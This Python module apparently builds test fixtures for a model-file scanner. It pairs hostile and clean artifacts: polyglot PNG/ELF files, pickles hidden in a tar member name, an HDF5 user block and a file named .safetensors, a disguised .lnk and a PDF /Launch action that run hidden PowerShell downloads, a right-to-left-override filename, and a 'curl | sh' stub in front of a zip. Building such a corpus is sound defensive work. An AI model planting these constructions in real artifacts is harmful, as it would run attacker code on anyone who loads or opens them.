"""Everywhere: polyglots, appended programs, names and extensions that lie, documents that start programs."""
import io
import json
import struct
import zlib

import h5py
import numpy

from assembly import Raw, call, glob, old, pickle
from pair import CODE, SHELL
from .craft import elf, floats, noise, pe, safetensors, tarred, zipped

WEIGHTS = safetensors({"w": ("F32", (8, 8), floats(64))})


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(extra=b"", tail=b""):
    rows = b"".join(b"\0" + noise(48, n) for n in range(16))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) + extra + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + tail


def user_block(block):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", userblock_size=512) as f:
        f["model_weights/dense/kernel"] = numpy.frombuffer(floats(64), "<f4").reshape(8, 8)
    data = bytearray(buffer.getvalue())
    data[: len(block)] = block
    return bytes(data)


def shortcut(path, arguments, icon):
    """A Windows shell link by [MS-SHLLINK]: relative path, arguments, icon."""
    flags = 0x08 | 0x40 | 0x80 | (0x20 if arguments else 0)
    head = struct.pack("<I", 76) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<II", flags, 0x20) + bytes(24) + struct.pack("<IiIHHII", 0, 0, 7 if arguments else 1, 0, 0, 0, 0)
    text = lambda v: struct.pack("<H", len(v)) + v.encode("utf-16-le")  # noqa: E731
    return head + text(path) + (text(arguments) if arguments else b"") + text(icon) + bytes(4)


def pdf(action):
    objects = [f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>", "<< /Length 49 >>\nstream\nBT /F1 18 Tf 72 720 Td (Model card: tiny) Tj ET \nendstream"]
    out, places = b"%PDF-1.7\n", []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{n} 0 obj\n{body}\nendobj\n".encode()
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{p:010d} 00000 n \n".encode() for p in places)
    return out + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()


def add(s):
    card = {"README.md": "# tiny\n![architecture](architecture.png)\n", "model.safetensors": WEIGHTS}
    s.add("everywhere", "program_behind_a_picture", {"architecture.png": png(tail=elf(6144)), **card}, {"architecture.png": png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x='adobe:ns:meta/'/>" + b" " * 6000)), **card}, None,
          why="an ELF executable hidden behind the end of the model card's picture (not run)")

    name = f"cposix\nsystem\n(S'{SHELL}'\ntR."
    first = lambda path: tarred({path: WEIGHTS, "labels.txt": "cat\ndog\n"})  # noqa: E731
    s.add("everywhere", "tar_that_is_a_pickle", {"model.tar": first(name)}, {"model.tar": first("checkpoint/model step 100.safetensors")}, "pickle",
          why="the first member's name is a whole protocol 0 pickle: as an archive it is clean, given to pickle.load or torch.load's fallback it runs a command")

    hostile = pickle(call(glob("builtins", "exec"), CODE))
    s.add("everywhere", "hdf5_user_block_is_a_pickle", user_block(hostile), user_block(b"created by exporter 1.4; layout: channels last\n"), "pickle", "weights.h5",
          why="the user block before the HDF5 signature is a pickle: h5py opens the weights, pickle.load (and joblib, which goes by content) runs exec")

    s.add("everywhere", "shortcut_named_like_a_card", {"model_card.pdf.lnk": shortcut("..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -c \"iex (iwr http://203.0.113.70/a.ps1)\"", "%ProgramFiles%\\Microsoft\\Edge\\msedge.exe"), "model.safetensors": WEIGHTS}, {"model_card.pdf.lnk": shortcut(".\\docs\\model_card.pdf", "", "%SystemRoot%\\System32\\imageres.dll"), "docs/model_card.pdf": pdf("[3 0 R /Fit]"), "model.safetensors": WEIGHTS}, None,
          why="a link that shows as a PDF and starts a hidden PowerShell with a download. By [MS-SHLLINK], not run")

    launch = "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c powershell -w hidden -c \"iwr http://203.0.113.70/a.exe -OutFile %TEMP%\\\\a.exe; & %TEMP%\\\\a.exe\") >> >>"
    s.add("everywhere", "paper_that_launches_a_program", {"paper.pdf": pdf(launch), "model.safetensors": WEIGHTS}, {"paper.pdf": pdf("<< /S /GoTo /D [3 0 R /XYZ 72 720 1.5] >>"), "model.safetensors": WEIGHTS}, None,
          why="the paper beside the model has a launch action on opening: cmd with a download. By ISO 32000, not run")

    s.add("everywhere", "program_with_reversed_name", {"weights-00001\u202enib.exe": pe(4096), "weights-00002.bin": floats(1024)}, {"weights-00001.bin": floats(1024, 2), "weights-00002.bin": floats(1024)}, None,
          why="a right-to-left override makes a Windows program read weights-00001exe.bin among the shards (not run)")

    ascii_ = Raw(old("builtins", "exec") + b"(V" + CODE.encode() + b"\ntR")
    lie = {"config.json": json.dumps({"model_type": "tiny"})}
    s.add("everywhere", "pickle_named_safetensors", {"model.safetensors": pickle(ascii_, 0), **lie}, {"model.safetensors": WEIGHTS, **lie}, "pickle",
          why="a protocol 0 pickle under the name that promises no code; loaders that fall back to torch.load or pickle run exec")

    app = zipped({"model.safetensors": WEIGHTS, "__main__.py": "print('tiny 1.2.0')\n"})
    s.add("everywhere", "script_in_front_of_a_zip", b"#!/bin/sh\n(curl -fsS http://203.0.113.70/i.sh | sh) >/dev/null 2>&1 &\nexec python3 \"$0\" \"$@\"\n" + app, b"#!/usr/bin/env python3\n" + app, None, "tiny.pyz",
          why="the lines before the zip start a download in a shell when the model application is run; as a zip it looks clean. Needs the network, not run")
